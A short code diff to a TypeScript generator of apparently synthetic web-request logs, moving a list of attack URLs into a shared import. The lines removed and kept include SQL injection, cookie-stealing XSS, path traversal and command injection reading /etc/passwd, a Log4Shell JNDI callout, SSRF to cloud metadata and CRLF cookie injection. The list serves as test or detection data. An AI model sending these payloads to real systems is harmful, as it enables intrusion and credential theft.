@@ -1,3 +1,4 @@
+import { ATTACKS as PLAIN_ATTACKS } from '../attack-log.ts';
 import type { Random } from './random.ts';
 
 const PATHS = [
@@ -15,11 +16,7 @@ const AGENTS = [
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36',
 ];
 const ATTACKS = [
-  "/item?id=1'+UNION+SELECT+password,1+FROM+users--+-",
-  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
-  '/download?file=../../../../../../etc/passwd',
-  '/ping?host=127.0.0.1%3Bcat+/etc/passwd',
-  '/?x=$%7Bjndi:ldap://198.51.100.9/a%7D',
+  ...PLAIN_ATTACKS,
   '/fetch?url=http://169.254.169.254/latest/meta-data/',
   '/page?lang=php://filter/convert.base64-encode/resource=index',
   '/go?next=%0d%0aSet-Cookie:%20admin=1',
